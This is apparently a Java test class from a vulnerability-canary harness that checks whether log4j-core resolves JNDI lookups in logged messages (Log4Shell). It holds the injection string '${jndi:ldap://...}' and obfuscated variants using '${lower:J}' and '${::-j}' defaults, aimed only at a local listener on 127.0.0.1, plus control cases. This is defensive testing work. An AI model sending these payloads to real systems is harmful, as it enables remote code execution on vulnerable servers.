import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;
import org.apache.logging.log4j.core.LoggerContext;
import org.apache.logging.log4j.core.impl.Log4jLogEvent;
import org.apache.logging.log4j.core.layout.PatternLayout;
import org.apache.logging.log4j.message.SimpleMessage;
import underpin.canary.Attempts;
import underpin.canary.Demonstration;

/** A logged message is looked up by JNDI (log4j-core). */
public final class Log4jMessageLookups implements Demonstration {
  @Override
  public void attempts(Attempts to) throws Exception {
    to.proof("in the message", c -> log("${jndi:ldap://127.0.0.1:" + c.listener().port() + "/a}"));
    to.variant("upper and lower case", c -> log("x ${${lower:J}ndi:ldap://127.0.0.1:" + c.listener().port() + "/a} y"));
    to.variant("hidden by defaults", c -> log("${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://127.0.0.1:" + c.listener().port() + "/a}"));
    to.variant("by a pattern", c -> layout("${jndi:ldap://127.0.0.1:" + c.listener().port() + "/b}"));
    to.control("plain messages", c -> layout("hello {} $x ${} ${unknown}") + layout("a\nb"));
    to.control("not a lookup", c -> layout("100 % ${"));
    to.replay("messages", (c, r) -> layout("m" + r.nextInt() + (r.nextBoolean() ? " {} %d $" : " ü")));
  }

  private static void log(String message) {
    Logger logger = LogManager.getLogger("proof");
    logger.error(message);
  }

  private static String layout(String message) {
    PatternLayout layout = PatternLayout.newBuilder().withPattern("%p %m").build();
    LoggerContext context = (LoggerContext) LogManager.getContext(false);
    PatternLayout full = PatternLayout.newBuilder().withPattern("%p %m").withConfiguration(context.getConfiguration()).build();
    Log4jLogEvent event = Log4jLogEvent.newBuilder().setLevel(Level.INFO).setLoggerName("proof").setMessage(new SimpleMessage(message)).build();
    return layout.toSerializable(event) + full.toSerializable(event);
  }
}
